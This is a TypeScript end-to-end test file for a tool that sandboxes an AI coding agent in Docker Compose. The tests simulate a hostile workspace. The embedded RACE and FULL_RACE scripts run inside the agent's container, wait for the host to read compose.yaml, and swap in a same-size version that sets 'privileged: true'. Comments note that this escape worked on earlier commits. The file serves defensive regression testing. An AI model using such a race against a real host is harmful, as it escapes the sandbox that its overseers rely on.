/**
 * Hostile workspace: a race from inside claude-cli against `up`'s short path (issue 19; ops/up/). The host's
 * read of compose.yaml shows in its atime, which claude-cli sees through the bind; right after it, the file
 * is rewritten in place with the same size and mtime (privileged: true in, a comment shortened), so a check
 * that trusts the file's identity, or any check before Compose's own read, passes while Compose reads the
 * new text. The gateway has stopped (a crash), so `up` starts it while claude-cli, and the attacker, still run.
 *
 * Attack first, on main 77d613a: claude-cli recreated Privileged=true, cctl up exit 0, and the up record took
 * its config hash (every later up: "Nothing changed"). On attack19 the start creates, compares the config
 * hashes with the record's, and starts nothing.
 *
 * The last case races the full path the same way (attack first, on main b1e1417: claude-cli running
 * Privileged=true, cctl up exit 0); its start now holds the created containers to the trust check's hashes.
 */
import type { ExecutionContext } from 'ava';
import { e2e } from '../../helpers/e2e.js';
import { Stack, type Edit } from '../../helpers/hostile.js';
import { runSettled, type RunResult } from '../../../lib/engine/runner.js';

const PAD = '# notes: keep this file tidy, reviewed by the team each week.\n';

/** Runs detached in claude-cli: waits for the host's read, swaps the text in place, keeps the mtime. */
const RACE = String.raw`
const fs = require('fs'), { execFileSync } = require('child_process');
const f = '/workspace/compose.yaml', log = (m) => fs.appendFileSync('/workspace/.race-log', Date.now() + ' ' + m + '\n');
const a = fs.readFileSync(f, 'utf8'), add = '    privileged: true\n';
const b = a.replace('    command: [idle]\n', '    command: [idle]\n' + add).replace(PAD, '#' + 'x'.repeat(PAD.length - 2 - add.length) + '\n');
if (b.length !== a.length || b === a) { log('cannot build B'); process.exit(1); }
execFileSync('touch', ['-r', f, '/tmp/ref']);
const sleep = (ms) => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ms);
const waitRead = () => { execFileSync('touch', ['-a', '-d', '@0', f]); while (fs.statSync(f).atimeMs < 1e9) sleep(1); };
waitRead(); log('host read A');
fs.writeFileSync(f, b); execFileSync('touch', ['-m', '-r', '/tmp/ref', f]); log('B in place');
`;

const stack = new Stack({ prefix: 'race' });
e2e.before(() => stack.setUp());
e2e.after.always(() => stack.tearDown());

e2e.serial('compose.yaml swapped in place (same size and mtime) right after the host read it, while the gateway restarts', async (t) => {
  const prepared = await stack.attack([{ append: 'compose.yaml', text: PAD }]);
  t.is(prepared.exitCode, 0, prepared.stderr);
  const first = await stack.cctl(['up', '--timeout', '300']);
  t.is(first.exitCode, 0, `a comment is taken without a question: ${first.stdout}${first.stderr}`);
  const code = `const PAD = ${JSON.stringify(PAD)};\n${RACE}`;
  const spawn = `require('child_process').spawn('node', ['-e', process.argv[1]], { detached: true, stdio: 'ignore' }).unref()`;
  const started = await stack.cctl(['exec', '--', 'node', '-e', spawn, code]);
  t.is(started.exitCode, 0, started.stderr);
  await new Promise((r) => setTimeout(r, 3000));
  await runSettled(['docker', 'stop', `${stack.name}-proxy-1`]);
  const up = await stack.cctl(['up', '--timeout', '300']);
  const log = await stack.asUser(['cat', '.race-log']);
  t.log(`race: ${log.stdout.trim().replace(/\n/g, ' | ')}; cctl up exit ${up.exitCode}`);
  t.regex(log.stdout, /B in place/, 'the attacker swapped the file after the host read it');
  const ps = await runSettled(['docker', 'ps', '-aq', '--filter', `label=com.docker.compose.project=${stack.name}`]);
  const ids = ps.stdout.split('\n').filter(Boolean);
  const inspected = await runSettled(['docker', 'inspect', '--format', '{{.Name}} {{.State.Status}} {{.HostConfig.Privileged}}', ...ids]);
  t.log(inspected.stdout.trim());
  t.notRegex(inspected.stdout, / true$/m, 'no container of the project is privileged (started or only created)');
  // Refused by the start's hash check (the swap landed after the short path's fingerprint read), or by the trust
  // check (it landed before: the fingerprint differs, and the full path reads the privileged text): which one
  // depends on how far up has got in the ~40 ms the attacker needs.
  if (up.exitCode !== 0) t.regex(`${up.stdout}${up.stderr}`, /changed while cctl up was running|differs from what you accepted/);
});

/**
 * The full path: a benign edit (a comment) sends `up` the whole way, through the trust check. The attacker
 * counts the host's reads of compose.yaml (each shows in its atime: it sets the atime back to 0 after each)
 * and swaps in the privileged text, same size, after read number AT. A first run with no swap counts the
 * reads of this very code; the last one is Compose's read for `up`, so the attack swaps after the one before.
 */
const FULL_RACE = String.raw`
const fs = require('fs');
const f = '/workspace/compose.yaml', log = (m) => fs.appendFileSync('/workspace/.race-log', Date.now() + ' ' + m + '\n');
const a = fs.readFileSync(f, 'utf8'), add = '    privileged: true\n';
const b = a.replace('    command: [idle]\n', '    command: [idle]\n' + add).replace(PAD, '#' + 'x'.repeat(PAD.length - 2 - add.length) + '\n');
if (b.length !== a.length || b === a) { log('cannot build B'); process.exit(1); }
const sleep = (ms) => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ms);
const reset = () => fs.utimesSync(f, 0, fs.statSync(f).mtime);
const started = Date.now();
reset();
for (let n = 1; Date.now() - started < 300000 && !fs.existsSync('/workspace/.race-stop'); ) {
  if (fs.statSync(f).atimeMs < 1e9) { sleep(1); continue; }
  log('host read ' + n);
  if (n === AT) { fs.writeFileSync(f, b); log('B in place'); break; }
  reset();
  n++;
}
`;

/** One full-path `cctl up` with the attacker swapping after read `at` (0: never, only counting). */
async function fullPathRace(at: number, more: Edit[] = []): Promise<{ up: RunResult; log: string; reads: number }> {
  await stack.restore();
  const code = `const PAD = ${JSON.stringify(PAD)}, AT = ${at};\n${FULL_RACE}`;
  const spawn = `require('child_process').spawn('node', ['-e', process.argv[1]], { detached: true, stdio: 'ignore' }).unref()`;
  // A comment more: the file's bytes differ from the record's, so up goes the full way.
  const edited = await stack.attack([{ append: 'compose.yaml', text: PAD }, ...more]);
  if (edited.exitCode !== 0) throw new Error(`the comment could not be added: ${edited.stderr}`);
  const started = await stack.cctl(['exec', '--', 'node', '-e', spawn, code]);
  if (started.exitCode !== 0) throw new Error(`the attacker did not start: ${started.stderr}`);
  await new Promise((r) => setTimeout(r, 1500));
  const up = await stack.cctl(['up', '--timeout', '300']);
  await stack.asUser(['touch', '.race-stop']);
  const log = (await stack.asUser(['cat', '.race-log'])).stdout;
  return { up, log, reads: (log.match(/host read/g) ?? []).length };
}

/** Where one swap landed, read from that up's outcome (every attempt must leave no privileged container). */
type Landing = 'window' | 'too early' | 'too late';

/**
 * The full-path race, `more` edits made first (each run starts from the committed tree). The reads are counted
 * from the atime, so two host reads within one poll of the attacker's count as one, and a run can see one read
 * more or fewer than the counting run did (CI once counted 9 and then saw Compose's read as the 8th). So the swap
 * starts after the read before the last and moves by one read until it lands between the trust check's last read
 * and Compose's: too late, nothing reads the swapped text and up starts what it checked (exit 0); too early, the
 * trust check itself reads the privileged text ("differs from what you accepted").
 */
async function fullPathCase(t: ExecutionContext, more: Edit[] = []): Promise<void> {
  const counted = await fullPathRace(0, more);
  t.is(counted.up.exitCode, 0, `a comment is taken without a question: ${counted.up.stdout}${counted.up.stderr}`);
  t.true(counted.reads >= 2, `the host's reads show in the atime: ${counted.log}`);
  const landings: Landing[] = [];
  let at = counted.reads - 1;
  for (let attempt = 0; attempt < 5 && at >= 1 && !landings.includes('window'); attempt++) {
    const { up, log } = await fullPathRace(at, more);
    const ps = await runSettled(['docker', 'ps', '-aq', '--filter', `label=com.docker.compose.project=${stack.name}`]);
    const ids = ps.stdout.split('\n').filter(Boolean);
    const inspected = await runSettled(['docker', 'inspect', '--format', '{{.Name}} {{.State.Status}} {{.HostConfig.Privileged}}', ...ids]);
    const said = `${up.stdout}${up.stderr}`;
    const landing: Landing = up.exitCode === 0 ? 'too late' : /changed while cctl up was running/.test(said) ? 'window' : 'too early';
    landings.push(landing);
    t.log(`race after read ${at}: ${log.trim().replace(/\n/g, ' | ')}; cctl up exit ${up.exitCode}: ${landing}`);
    t.log(inspected.stdout.trim());
    t.notRegex(inspected.stdout, / true$/m, 'no container of the project is privileged (started or only created)');
    if (landing === 'too early') t.regex(said, /(differs from what you accepted|keys that cctl manages)[^]*privileged/, said);
    if (landing === 'too late' && /B in place/.test(log)) {
      // Nothing read the swapped text before the start; the next up does, and refuses it.
      const next = await stack.cctl(['up', '--timeout', '300']);
      t.not(next.exitCode, 0, `the swapped file is refused by the next up: ${next.stdout}`);
    }
    at += landing === 'too late' ? -1 : 1;
  }
  t.true(landings.includes('window'), `one swap landed between the check's read and Compose's, and was refused: ${landings.join(', ')}`);
  // The refused up left no record of the attacker's config: the next up checks the file again.
  const again = await stack.cctl(['up', '--timeout', '300']);
  t.not(again.exitCode, 0, `the next up checks the file and refuses the privileged claude-cli: ${again.stdout}`);
  t.regex(`${again.stdout}${again.stderr}`, /privileged/);
}

e2e.serial("compose.yaml swapped after the full path's last check read it, before Compose reads it for up", (t) => fullPathCase(t));

/**
 * A service of the user's own with a build.ssh entry naming a key file: Compose 2.26 cannot print that model as
 * JSON, so the trust check read it as YAML and had no config hash to hold cctl's containers to, and Compose
 * started them itself. Attack first, on main 6a56f80 (the same race as above): claude-cli ran Privileged=true,
 * cctl up exit 0. Now cctl's services are resolved alone as JSON for the comparison and the hashes.
 */
e2e.serial("the same race, with a build.ssh entry on a service of the user's (no JSON model)", (t) =>
  fullPathCase(t, [
    { set: 'compose.yaml', path: ['services', 'web', 'build', 'context'], value: '.' },
    { set: 'compose.yaml', path: ['services', 'web', 'build', 'ssh'], value: '["default=/tmp/no-such-key"]' },
  ]),
);
